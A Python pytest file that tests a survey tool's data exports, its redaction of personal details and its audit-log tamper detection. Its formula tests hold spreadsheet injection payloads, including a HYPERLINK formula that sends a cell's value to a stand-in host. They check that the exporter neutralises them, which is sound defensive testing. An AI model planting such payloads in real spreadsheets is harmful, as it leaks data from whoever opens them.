"""Exports through the command line, read back from their files.

E1 answers and states; E2 labels and dictionary; E3 revisions, outcomes, reviews; E4 identity;
E5 formulas; E6 the folder; E7 the roster to be signed; E8 audit and rebuild.
"""

import csv
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from functools import cache, partial
from pathlib import Path
from threading import Timer

import pytest
from pyarrow import parquet
from python_calamine import CalamineWorkbook

from models.case import Case
from models.conversation_store import Inbound, TurnResult
from models.projection import CurrentAnswer
from models.region import COUNTRY
from server.export.disclosure import Disclosure
from server.export.formula import harmless, is_risky
from server.export.official import joined, published
from server.export.table import Column, Table
from server.export.xlsx_file import write_xlsx
from server.failure import CommandFailedError
from server.forms.library import SHIPPED, load_form
from server.service import Service
from server.settings import Settings
from survey_engine.channel import Channel
from survey_engine.input import Record
from survey_engine.interview import Interview
from survey_engine.item import Choice
from survey_engine.questionnaire import Questionnaire
from survey_engine.stepping import start, step
from tests.commands import Outcome, tingwen
from tests.desks import add_account

CAMPAIGN, OFFICER = "990000-2026", "dudao"
ZHANG, LI, WANG = "99000019600229001042", "99000019900101012141", "99000019550505003044"
NAMES = {ZHANG: "张试用", LI: "李试用", WANG: "王试用"}
PHONES = {ZHANG: "14000123456", LI: "14000123457", WANG: "14000123458"}
GUARDIAN, NOTE, SAID_PHONE = "赵监护", "晚上打别早上打", "15423607891"
FIRST = {
    "A3": "1", "A4": "20", "A6": SAID_PHONE, "A7": "2", "B1": "3", "B2": "2", "C2": "2",
    "C3": "0", "E1": "4", "E4": "1", "E5": "2", "F1": "不想说", "F4": "不知道", "F6": "6",
    "F7": "咕噜咕噜", "G1": "2", "G2": "9",
}  # fmt: skip
SECOND = {**FIRST, "A3": "2", "B2": "1"}
PAYLOADS = {
    "T1": '=HYPERLINK("http://example.invalid/?"&A1,"点")',
    "T2": "+1+1",
    "T3": "-2+3",
    "T4": "@SUM(1,1)",
    "T5": "＝1+1",
    "T6": "'=1+1",
    "T7": "没有公式，“只是”话",
    "T8": 'a,"b"; 𬱖·买买提',
}
FORMATS = ("csv", "xlsx", "parquet")
PERSON = load_form(SHIPPED / "person.yaml")
Row = Mapping[str, object]


@dataclass(frozen=True)
class Desk:
    """A data folder, and the command line upon it."""

    data: Path

    def run(self, *words: str) -> Outcome:
        mine = {"TINGWEN_DATA_DIR": str(self.data)}
        return tingwen(*words, environment=mine, folder=self.data.parent)

    def environment(self) -> dict[str, str]:
        here = str(Path(__file__).resolve().parents[2])
        mine = {"TINGWEN_DATA_DIR": str(self.data), "PYTHONPATH": here, "PYTHONUTF8": "1"}
        return {**os.environ, **mine}

    def done(self, *words: str) -> str:
        ran = self.run(*words)
        assert ran.code == 0, ran.err
        return ran.out

    def refused(self, *words: str) -> str:
        """Run a command that must fail with one sentence; return the sentence."""
        ran = self.run(*words)
        assert ran.code == 1
        assert len(ran.err.strip().splitlines()) == 1
        return ran.err.strip()

    def export(self, out: Path, *words: str, campaign: str = CAMPAIGN) -> dict[str, object]:
        if "--identified" in words:
            words = (*words, "--as", OFFICER, "--reason", "核对底册")
        told = self.done("export", "--campaign", campaign, "--out", str(out), "--json", *words)
        manifest: dict[str, object] = json.loads(told)
        return manifest

    def interview(self, person: str, codes: Mapping[str, str], *, last: str) -> None:
        """Answer on stdin whatever is asked, in the form's own words, and hang up after ``last``.

        A question that comes again is answered in the next words that the form has for the code.
        """
        words = ("interview", "--campaign", CAMPAIGN, "--person", person, "--json")
        asked: Counter[str] = Counter()
        with subprocess.Popen(
            [sys.executable, "-c", "from server.cli import main; main()", *words],
            env=self.environment(), cwd=self.data.parent, text=True,
            stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        ) as process:  # fmt: skip
            patience = Timer(120, process.kill)
            patience.start()
            assert process.stdin
            assert process.stdout
            for line in process.stdout:
                said = json.loads(line)
                if said["kind"] == "say":
                    continue
                known = {"A2": person[:20][-4:], "consent": "同意", **codes}
                phrases = in_words(said["item"], known.get(said["item"], "1"))
                answer = "对" if said["kind"] == "confirm" else phrases[asked[said["item"]]]
                asked[said["item"]] += 1
                process.stdin.write(f"{answer}\n")
                process.stdin.flush()
                if said["item"] == last:
                    break
            process.stdin.close()
            process.stdout.read()
            patience.cancel()
        assert process.returncode == 0

    def record(self, campaign: str, person: str, values: Mapping[str, str]) -> None:
        """Answer with these values as they are, as somebody at a desk does."""
        service = Service.open(Settings(data_dir=self.data))
        case = service.cases.by_certificate(campaign, person)
        form = service.shelf.find(case.form, case.version)
        at = datetime.now(UTC)

        def opening(known: Case) -> TurnResult:
            return TurnResult(*start(form, known.facts(), {}, at=at, channel=Channel.DESK))

        service.store.start(case.assignment_id, opening)
        for name, value in values.items():
            given = Record(at=at, target=name, value=value)
            inbound = Inbound(
                channel="desk",
                external_id=f"{person}:{name}",
                assignment_id=case.assignment_id,
                body=value,
                received_at=at,
            )
            service.store.take(inbound, partial(_stepped, given))
        service.close()

    def employ(self, login: str, role: str = "supervisor", region: str = COUNTRY) -> None:
        """Add somebody who is at work."""
        service = Service.open(Settings(data_dir=self.data))
        add_account(service, login, role, region)
        service.close()

    def sql(self, statement: str, *values: object) -> list[tuple[object, ...]]:
        with sqlite3.connect(self.data / "tingwen.db") as connection:
            found = connection.execute(statement, values).fetchall()
        connection.close()
        return found

    def copy(self, to: Path) -> "Desk":
        shutil.copytree(self.data, to / "data")
        return Desk(to / "data")


def _stepped(given: Record, held: Interview) -> TurnResult:
    return TurnResult(*step(held, given))


def in_words(target: str, codes: str) -> list[str]:
    """All ways in which the form itself words an answer, several codes in one sentence."""
    item = PERSON.item(target)
    if item is None or not item.type.has_choices or not item.codes.issuperset(codes.split()):
        return [{"1": "有"}.get(codes, codes)] * 9
    words = [
        [word for choice in item.choices if choice.code == code for word in
         (*choice.says[:2], choice.label)] for code in codes.split()
    ]  # fmt: skip
    return ["、".join(some) for some in zip(*words, strict=False)] + [codes] * 9


def write_roster(path: Path, people: Sequence[str]) -> Path:
    columns = "姓名,残疾人证号,区划代码,联系电话,户口性质,监护人姓名,备注"
    rows = [
        f"{NAMES[one]},{one},990000100201,{PHONES[one]},农业,{GUARDIAN},{NOTE}" for one in people
    ]
    path.write_text("\n".join((columns, *rows, "")), encoding="utf-8-sig")
    return path


def opened(folder: Path, campaign: str, form: str, people: Sequence[str]) -> Desk:
    """A desk with one campaign and its roster."""
    desk = Desk(folder / "data")
    desk.done("campaign", "create", campaign, "--reference-day", "2026-09-30", "--form", form)
    roster = write_roster(folder / "roster.csv", people)
    told = json.loads(desk.done("roster", "import", str(roster), "--campaign", campaign, "--json"))
    assert told["accepted"] == len(people)
    desk.employ(OFFICER)
    return desk


def county(folder: Path) -> Desk:
    """Three people: one whole interview with all kinds of answers, another, and nothing."""
    desk = opened(folder, CAMPAIGN, "person", (ZHANG, LI, WANG))
    desk.interview(ZHANG, FIRST, last="readback:H")
    desk.interview(LI, SECOND, last="B2")
    return desk


@cache
def kept_county(root: Path) -> Desk:
    """The county as it is made once for all tests of a process, which leave its records alone."""
    folder = root / "county"
    folder.mkdir()
    return county(folder)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    return kept_county(tmp_path_factory.getbasetemp())


@pytest.fixture(scope="module")
def exported(desk: Desk, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Path]:
    """The same records in each format, without names."""
    root = tmp_path_factory.mktemp("exported")
    for kind in FORMATS:
        desk.export(root / kind, "--format", kind)
    return {kind: root / kind for kind in FORMATS}


@pytest.fixture(scope="module")
def identified(desk: Desk, tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Path]:
    root = tmp_path_factory.mktemp("identified")
    for kind in FORMATS:
        desk.export(root / kind, "--format", kind, "--identified")
    return {kind: root / kind for kind in FORMATS}


def read_csv(path: Path) -> list[dict[str, object]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [
            {name: restored(cell) or None for name, cell in r.items()} for r in csv.DictReader(file)
        ]


def restored(cell: str) -> str:
    """What a cell held, as docs/export.md says how to get it back."""
    return cell[1:] if cell.startswith("'") and is_risky(cell[1:]) else cell


def read_xlsx(path: Path) -> list[dict[str, object]]:
    header, *rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert all(isinstance(cell, str) for row in rows for cell in row)
    return [
        {str(name): cell or None for name, cell in zip(header, row, strict=True)} for row in rows
    ]


def read_parquet(path: Path) -> list[dict[str, object]]:
    rows: list[dict[str, object]] = parquet.read_table(path).to_pylist()
    return rows


READERS: Mapping[str, Callable[[Path], list[dict[str, object]]]] = {
    "csv": read_csv,
    "xlsx": read_xlsx,
    "parquet": read_parquet,
}


def read(folder: Path, kind: str, table: str) -> list[dict[str, object]]:
    return READERS[kind](folder / f"{table}.{kind}")


def whole(rows: Sequence[Row]) -> Row:
    """The row of the person whose interview is whole."""
    return next(row for row in rows if row["status"] == "completed")


# E1 answers and states


@pytest.mark.parametrize("kind", FORMATS)
def test_e1_one_row_a_person_with_codes_labels_and_states(
    exported: Mapping[str, Path], kind: str
) -> None:
    rows = read(exported[kind], kind, "answers")
    assert sorted(str(row["status"]) for row in rows) == ["completed", "paused", "waiting"]
    row = whole(rows)
    assert (row["A4"], row["A4_label"], row["A4_state"]) == ("20", "有配偶", "recorded")
    waiting = next(one for one in rows if one["status"] == "waiting")
    assert all(waiting[f"{name}_state"] is None for name in FIRST)


@pytest.mark.parametrize("kind", FORMATS)
def test_e1_kinds_of_no_value_are_kept_apart(
    desk: Desk, identified: Mapping[str, Path], kind: str
) -> None:
    row = whole(read(identified[kind], kind, "answers"))
    told = json.loads(desk.done("show", "--campaign", CAMPAIGN, "--person", ZHANG, "--json"))
    for name, answer in told["answers"].items():
        sure = answer["state"] in ("recorded", "verified")
        assert row[f"{name}_state"] == answer["state"]
        assert row[name] == (answer["value"] if sure else None)
        assert (row[f"{name}_label"] is None) == (row[name] is None)
    states = {answer["state"] for answer in told["answers"].values()}
    assert states == {"recorded", "to_verify", "declined", "unknown", "skipped"}
    assert (row["F1_state"], row["F4_state"], row["D1_state"]) == ("declined", "unknown", "skipped")


def test_e1_every_format_says_the_same(exported: Mapping[str, Path]) -> None:
    tables = [read(exported[kind], kind, "answers") for kind in FORMATS]
    plain = [
        [{name: str(cell).lower() if isinstance(cell, bool) else cell or None
          for name, cell in row.items()} for row in table] for table in tables
    ]  # fmt: skip
    assert plain[0] == plain[1] == plain[2]


@pytest.mark.parametrize(
    ("code", "state"),
    [("96", "to_verify"), ("97", "unknown"), ("98", "declined"), ("99", "skipped"), ("1", "")],
)
def test_e1_internal_codes_never(forms: dict[str, Questionnaire], code: str, state: str) -> None:
    item = forms["person"].item("E4")
    assert item is not None
    item = replace(item, choices=(*item.choices, Choice(code, "无答案")))
    told = published(item, CurrentAnswer("E4", "recorded", code))
    assert (told.state, told.value) == ((state, "") if state else ("recorded", "1"))
    assert joined(item, f"2 {code}") == ("2" if state else "2+1")


# E2 labels and dictionary


def test_e2_a_shared_code_has_the_label_of_the_person(exported: Mapping[str, Path]) -> None:
    rows = read(exported["csv"], "csv", "answers")
    labels = {row["A3"]: (row["B1"], row["B1_label"]) for row in rows if row["A3"]}
    assert labels == {"1": ("3", "非贫困户"), "2": ("3", "其他")}


@pytest.mark.parametrize("kind", FORMATS)
def test_e2_dictionary(exported: Mapping[str, Path], kind: str) -> None:
    rows = {row["item"]: row for row in read(exported[kind], kind, "dictionary")}
    assert (rows["F1"]["legacy"], rows["F1"]["legacy_wave"]) == ("R32", "2018")
    assert rows["F7"]["legacy"] is None
    assert (rows["D5"]["period_from"], rows["D5"]["period_to"]) == ("2025-10-01", "2026-09-30")
    assert (rows["D1"]["period_from"], rows["D1"]["period_to"]) == ("2026-09-30", "2026-09-30")
    assert rows["F1"]["period_from"] is None
    assert "20=有配偶" in str(rows["A4"]["codes"])
    assert str(rows["F1"]["sensitivity"]).startswith("H")
    assert "(found)" in str(rows["A4"]["evidence"])
    answers = read(exported[kind], kind, "answers")[0]
    assert {f"{name}_state" for name in rows} == {n for n in answers if n.endswith("_state")}


# E3 revisions, outcomes, reviews


@pytest.mark.parametrize("kind", FORMATS)
def test_e3_a_revision_tells_all_of_itself(exported: Mapping[str, Path], kind: str) -> None:
    rows = read(exported[kind], kind, "revisions")
    first, second = [row for row in rows if row["item"] == "A4" and row["value"] == "20"][:2]
    assert (first["state_before"] or None, first["value_before"] or None) == (None, None)
    assert (first["actor"], first["source"]) == ("self", "answer")
    assert (second["state_before"], second["value_before"]) == ("recorded", "20")
    assert all(row["at"] and row["reason"] for row in rows)


@pytest.mark.parametrize("kind", FORMATS)
def test_e3_reviews_and_outcomes(desk: Desk, exported: Mapping[str, Path], kind: str) -> None:
    reviews = read(exported[kind], kind, "reviews")
    kept = desk.sql("SELECT id, item, reason FROM review_task")
    assert kept
    assert {(row["task"], row["item"], row["reason"]) for row in reviews} == set(kept)
    outcomes = read(exported[kind], kind, "outcomes")
    assert sorted(str(row["attempts"]) for row in outcomes) == ["0", "1", "1"]


# E4 identity


def everything(folder: Path) -> str:
    """All that the files of an export say, whatever their format."""
    said = []
    for file in sorted(folder.iterdir()):
        reader = READERS.get(file.suffix[1:])
        said.append(repr(reader(file)) if reader else file.read_text(encoding="utf-8"))
    return "".join(said)


SECRETS = (*NAMES.values(), ZHANG, LI, ZHANG[:18], *PHONES.values(), GUARDIAN, NOTE, SAID_PHONE)


@pytest.mark.parametrize("kind", FORMATS)
def test_e4_no_name_and_no_number(exported: Mapping[str, Path], kind: str) -> None:
    told = everything(exported[kind])
    assert [secret for secret in SECRETS if secret in told] == []
    assert whole(read(exported[kind], kind, "answers"))["A6_state"] == "recorded"


@pytest.mark.parametrize("kind", FORMATS)
def test_e4_names_and_numbers_if_asked_for(identified: Mapping[str, Path], kind: str) -> None:
    told = everything(identified[kind])
    assert [secret for secret in SECRETS if secret not in told] == []
    row = whole(read(identified[kind], kind, "answers"))
    assert (row["name"], row["certificate"]) == (NAMES[ZHANG], ZHANG)
    assert (row["A6"], row["A2"]) == (SAID_PHONE, "1042")


@pytest.mark.parametrize(
    ("target", "value", "told"),
    [
        ("E4", "1 2", "1+2"),
        ("E4", "张三家的", ""),
        ("A6", "14000123456", ""),
        ("A5", "李四", ""),
        ("relation", "李四的儿子", ""),
    ],
)
def test_e4_what_was_said_is_left_out(
    forms: dict[str, Questionnaire], target: str, value: str, told: str
) -> None:
    assert Disclosure(forms["person"], identified=False).value(target, value) == told
    assert Disclosure(forms["person"], identified=True).value(target, value)


@pytest.mark.parametrize(
    ("reason", "actor", "told"),
    [
        ("check:L55", "engine", "check:L55"),
        ("dont_know", "self", "dont_know"),
        ("给张三打过电话", "shenhe", "withheld"),
        ("", "shenhe", ""),
    ],
)
def test_e4_what_staff_wrote_is_withheld(
    forms: dict[str, Questionnaire], reason: str, actor: str, told: str
) -> None:
    assert Disclosure(forms["person"], identified=False).reason(reason, actor) == told
    assert Disclosure(forms["person"], identified=True).reason(reason, actor) == reason


def test_e4_every_export_is_in_the_audit_log(desk: Desk, tmp_path: Path) -> None:
    count = "SELECT count(*) FROM audit WHERE action = ? AND object = ?"
    kinds = ("export.unidentified", "export.identified")
    before = [desk.sql(count, kind, CAMPAIGN)[0][0] for kind in kinds]
    desk.export(tmp_path / "a", "--format", "csv")
    desk.export(tmp_path / "b", "--format", "csv", "--identified")
    after = [desk.sql(count, kind, CAMPAIGN)[0][0] for kind in kinds]
    assert [int(str(a)) - int(str(b)) for a, b in zip(after, before, strict=True)] == [1, 1]
    desk.done("audit", "verify")


# E5 formulas


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """A form of free texts answered with formulas, and one multiple choice."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "texts.yaml").write_text(texts_form(), encoding="utf-8")
    desk = opened(folder, "texts", str(folder / "texts.yaml"), (ZHANG, LI))
    desk.record("texts", ZHANG, {**PAYLOADS, "M": "1 2"})
    return desk


def texts_form() -> str:
    texts = "".join(
        f"      - {{name: {name}, label: 话{name}, type: text, wording: {{ask: 说什么？}}}}\n"
        for name in PAYLOADS
    )
    choices = "[{code: 1, label: 甲, ask: 有没有甲？}, {code: 2, label: 乙, ask: 有没有乙？}]"
    return (
        "form: texts\nversion: '1'\ntitle: 话\n"
        f"sections:\n  - name: X\n    label: 部分\n    items:\n{texts}"
        "      - {name: M, label: 多选, type: multi, wording: {ask: 哪个？},"
        f" choices: {choices}}}\n"
    )


@pytest.mark.parametrize("kind", FORMATS)
def test_e5_several_codes_are_joined(hostile: Desk, tmp_path: Path, kind: str) -> None:
    hostile.export(tmp_path / "out", "--format", kind, campaign="texts")
    row = whole(read(tmp_path / "out", kind, "answers"))
    assert (row["M"], row["M_label"], row["M_state"]) == ("1+2", "甲+乙", "recorded")
    assert all(row[name] is None and row[f"{name}_state"] == "recorded" for name in PAYLOADS)


def test_e5_csv_cells_are_harmless_and_can_be_undone(hostile: Desk, tmp_path: Path) -> None:
    hostile.export(tmp_path / "out", "--format", "csv", "--identified", campaign="texts")
    for file in (tmp_path / "out").glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as content:
            cells = [cell for row in csv.reader(content) for cell in row]
        assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r＝＋－＠")] == []
    row = whole(read(tmp_path / "out", "csv", "answers"))
    stored = whole_parquet(hostile, tmp_path)
    assert {name: row[name] for name in PAYLOADS} == stored


def whole_parquet(hostile: Desk, tmp_path: Path) -> dict[str, object]:
    hostile.export(tmp_path / "pq", "--format", "parquet", "--identified", campaign="texts")
    row = whole(read(tmp_path / "pq", "parquet", "answers"))
    return {name: row[name] for name in PAYLOADS}


def test_e5_xlsx_holds_text_and_no_formula(hostile: Desk, tmp_path: Path) -> None:
    hostile.export(tmp_path / "out", "--format", "xlsx", "--identified", campaign="texts")
    row = whole(read(tmp_path / "out", "xlsx", "answers"))
    assert row["T1"] == PAYLOADS["T1"]
    assert row["T8"] == PAYLOADS["T8"]
    for file in (tmp_path / "out").glob("*.xlsx"):
        with zipfile.ZipFile(file) as parts:
            sheets = [parts.read(name) for name in parts.namelist() if "sheet" in name]
        assert not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)


def test_e5_parquet_holds_what_was_said(hostile: Desk, tmp_path: Path) -> None:
    stored = whole_parquet(hostile, tmp_path)
    assert {name: stored[name] for name in ("T1", "T2", "T7", "T8")} == {
        name: PAYLOADS[name] for name in ("T1", "T2", "T7", "T8")
    }


@pytest.mark.parametrize(
    "text",
    ["=1", "+1", "-1", "@A", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "'=1", "''=1",
     " =1", "\u3000=1", "\ufeff=1", "\u200b＝1", "\t1"],
)  # fmt: skip
def test_e5_risky_text_gets_an_apostrophe_that_can_be_taken_off(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert restored(harmless(text)) == text


@pytest.mark.parametrize("text", ["", "1", "1-1", "a=b", "'", "'s", "张", " 1", "10:00", "没有=有"])
def test_e5_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert restored(text) == text


# E6 the folder


@pytest.mark.parametrize("exists", [True, False])
def test_e6_a_new_or_empty_folder_is_made_private(desk: Desk, tmp_path: Path, exists: bool) -> None:
    out = tmp_path / "out"
    if exists:
        out.mkdir(mode=0o755)
    manifest = desk.export(out, "--format", "csv")
    assert out.stat().st_mode & 0o777 == 0o700
    names = {file.name for file in out.iterdir()}
    assert names == {
        "answers.csv", "revisions.csv", "outcomes.csv", "reviews.csv", "dictionary.csv",
        "roster.xlsx", "export.json",
    }  # fmt: skip
    assert all(file.stat().st_mode & 0o077 == 0 for file in out.iterdir())
    assert json.loads((out / "export.json").read_bytes()) == manifest


def test_e6_the_folder_of_another_export_is_refused(
    desk: Desk, exported: Mapping[str, Path]
) -> None:
    before = everything(exported["csv"])
    said = desk.refused(
        "export", "--campaign", CAMPAIGN, "--format", "xlsx", "--out", str(exported["csv"])
    )
    assert f"holds the export of campaign {CAMPAIGN}" in said
    assert everything(exported["csv"]) == before


@pytest.mark.parametrize("name", ["notes.txt", ".answers.csv.part"])
def test_e6_a_folder_with_other_files_is_refused(desk: Desk, tmp_path: Path, name: str) -> None:
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    (out / name).write_text("x")
    said = desk.refused("export", "--campaign", CAMPAIGN, "--format", "csv", "--out", str(out))
    assert str(out) in said
    assert [file.name for file in out.iterdir()] == [name]
    assert out.stat().st_mode & 0o777 == 0o755


def test_e6_an_unwritable_folder_is_refused(desk: Desk, tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_text("x")
    out = file / "out"
    said = desk.refused("export", "--campaign", CAMPAIGN, "--format", "csv", "--out", str(out))
    assert "cannot be written" in said
    assert file.read_text() == "x"


def test_e6_an_unknown_campaign_is_refused(desk: Desk, tmp_path: Path) -> None:
    out = tmp_path / "out"
    said = desk.refused("export", "--campaign", "nobody", "--format", "csv", "--out", str(out))
    assert "no campaign nobody" in said
    assert not out.exists()


def test_e6_an_unknown_format_is_refused(desk: Desk, tmp_path: Path) -> None:
    out = tmp_path / "out"
    ran = desk.run("export", "--campaign", CAMPAIGN, "--format", "sav", "--out", str(out))
    assert ran.code != 0
    assert not out.exists()


def test_e6_a_failed_export_leaves_nothing(copied: Desk, tmp_path: Path) -> None:
    """A value that was changed behind the program's back ends the export in the middle."""
    (interview,) = copied.sql("SELECT id FROM interview WHERE status = 'completed'")[0]
    change = "UPDATE answer SET value = zeroblob(40) WHERE interview_id = ? AND item = 'A4'"
    tamper(copied, "answer", change, interview)
    words = ("export", "--campaign", CAMPAIGN, "--format", "xlsx", "--out")
    empty = tmp_path / "empty"
    empty.mkdir()
    for out in (tmp_path / "new" / "folder", empty):
        assert "restore it from a copy" in copied.refused(*words, str(out))
    assert not (tmp_path / "new" / "folder").exists()
    assert list(empty.iterdir()) == []


@pytest.mark.parametrize("length", [32_767, 32_768])
def test_e6_no_cell_is_cut_short(tmp_path: Path, length: int) -> None:
    table = Table("answers", (Column("T1"),), [("长" * length,)])
    path = tmp_path / "answers.xlsx"
    if length <= 32_767:
        assert write_xlsx(path, table) == 1
        assert read_xlsx(path) == [{"T1": "长" * length}]
        return
    with pytest.raises(CommandFailedError, match="export as csv or parquet"):
        write_xlsx(path, table)


def test_e6_a_full_sheet_goes_on_in_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("server.export.xlsx_file.MOST_ROWS", 2)
    rows = [(str(number),) for number in range(5)]
    assert write_xlsx(tmp_path / "many.xlsx", Table("many", (Column("N"),), rows)) == 5
    book = CalamineWorkbook.from_path(str(tmp_path / "many.xlsx"))
    sheets = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]
    assert sheets == [[["N"], ["0"], ["1"]], [["N"], ["2"], ["3"]], [["N"], ["4"]]]
    assert [file.name for file in tmp_path.iterdir()] == ["many.xlsx"]


WATCHED = """
import sys
def watch(event, told):
    if event == "open" and told[0] and isinstance(told[0], str):
        if (isinstance(told[1], str) and set(told[1]) & set("wax+")) or told[2] & 0o103:
            print("WROTE", told[0], file=sys.stderr)
sys.addaudithook(watch)
from server.cli import main
main()
"""


@pytest.mark.parametrize("kind", FORMATS)
def test_e6_nothing_is_written_outside_the_folder(desk: Desk, tmp_path: Path, kind: str) -> None:
    out = tmp_path / "out"
    named = ("--identified", "--as", OFFICER, "--reason", "核对")
    words = ("export", "--campaign", CAMPAIGN, "--format", kind, *named, "--out", str(out))
    ran = subprocess.run(
        [sys.executable, "-B", "-c", WATCHED, *words],
        env=desk.environment(), cwd=desk.data.parent, capture_output=True, text=True, check=True,
    )  # fmt: skip
    written = [line.split(" ", 1)[1] for line in ran.stderr.splitlines() if "WROTE" in line]
    assert any(Path(one).name == "roster.xlsx" or "roster" in one for one in written)
    allowed = (str(out), str(desk.data), "/dev/")
    assert [one for one in written if not one.startswith(allowed)] == []


# E7 the roster to be signed


@pytest.mark.parametrize("kind", FORMATS)
def test_e7_a_roster_to_be_signed_whatever_the_format(
    identified: Mapping[str, Path], kind: str
) -> None:
    rows = read_xlsx(identified[kind] / "roster.xlsx")
    assert [row["序号"] for row in rows] == ["1", "2", "3"]
    assert list(rows[0])[-6:] == ["本人/代签", "调查员", "日期", "手印", "备注", "编号"]
    mine = next(row for row in rows if row["残疾人证号"] == ZHANG)
    assert (mine["姓名"], mine["户口性质"], mine["备注"]) == (NAMES[ZHANG], "农业", NOTE)
    assert mine["手印"] is None


def test_e7_it_can_be_imported_again(desk: Desk, identified: Mapping[str, Path]) -> None:
    file = str(identified["csv"] / "roster.xlsx")
    told = json.loads(desk.done("roster", "import", file, "--campaign", CAMPAIGN, "--json"))
    assert (told["accepted"], told["unchanged"], told["rejected"]) == (3, 3, [])


# E8 audit and rebuild


def tamper(desk: Desk, table: str, statement: str, *values: object) -> None:
    """Change rows behind the program's back, as somebody with the file could."""
    triggers = desk.sql(
        "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = ?", table
    )
    with sqlite3.connect(desk.data / "tingwen.db") as connection:
        for (name,) in triggers:
            connection.execute(f"DROP TRIGGER {name}")
        assert connection.execute(statement, values).rowcount == 1
    connection.close()


@pytest.fixture
def copied(desk: Desk, tmp_path: Path) -> Desk:
    return desk.copy(tmp_path)


def test_e8_an_untouched_chain_holds(copied: Desk) -> None:
    assert json.loads(copied.done("audit", "verify", "--json")) == {"intact": True, "broken": []}
    assert "完整" in copied.done("audit", "verify")


@pytest.mark.parametrize(
    "change",
    ["item = 'A7'", "payload = zeroblob(40)", "at = '2020-01-01 00:00:00.000000'",
     "type = 'Said'", "payload = (SELECT payload FROM event AS e WHERE e.seq = 12 LIMIT 1)",
     "at = 'never'"],
)  # fmt: skip
def test_e8_an_edited_event_is_named(copied: Desk, change: str) -> None:
    (interview,) = copied.sql("SELECT id FROM interview WHERE status = 'completed'")[0]
    where = "WHERE interview_id = ? AND seq = 11"
    tamper(copied, "event", f"UPDATE event SET {change} {where}", interview)
    ran = copied.run("audit", "verify", "--json")
    assert ran.code == 1
    if change == "at = 'never'":
        assert "cannot even be read" in ran.err
        return
    broken = json.loads(ran.out)["broken"]
    assert (broken[0]["table"], broken[0]["position"]) == ("event", 11)
    assert broken[0]["row"] == f"{interview}/11"
    assert f"{interview}/11" in copied.refused("audit", "verify")


def test_e8_a_lost_audit_entry_is_named(copied: Desk) -> None:
    tamper(copied, "audit", "DELETE FROM audit WHERE seq = 2")
    assert "audit: chain audit is broken at place 2" in copied.refused("audit", "verify")


def test_e8_rebuild_says_what_changed(copied: Desk, tmp_path: Path) -> None:
    before = copied.export(tmp_path / "before", "--format", "csv")
    untouched = json.loads(copied.done("rebuild", "--campaign", CAMPAIGN, "--json"))
    assert (untouched["interviews"], untouched["changed"]) == (2, 0)
    (interview,) = copied.sql("SELECT id FROM interview WHERE status = 'completed'")[0]
    change = "UPDATE answer SET state = 'unknown', value = NULL WHERE interview_id = ? AND item = ?"
    tamper(copied, "answer", change, interview, "A4")
    assert "改正答案 1 条" in copied.done("rebuild")
    assert "一致" in copied.done("rebuild")
    assert copied.sql("SELECT count(*) FROM audit WHERE action = 'records.rebuild'") == [(1,)]
    after = copied.export(tmp_path / "after", "--format", "csv")
    assert digests(before) == digests(after)
    copied.done("audit", "verify")


def digests(manifest: Mapping[str, object]) -> dict[str, str]:
    files = manifest["files"]
    assert isinstance(files, dict)
    return {name: one["sha256"] for name, one in files.items() if name.endswith(".csv")}


def test_e8_rebuild_of_an_unknown_campaign_is_refused(desk: Desk) -> None:
    assert "no campaign nobody" in desk.refused("rebuild", "--campaign", "nobody")
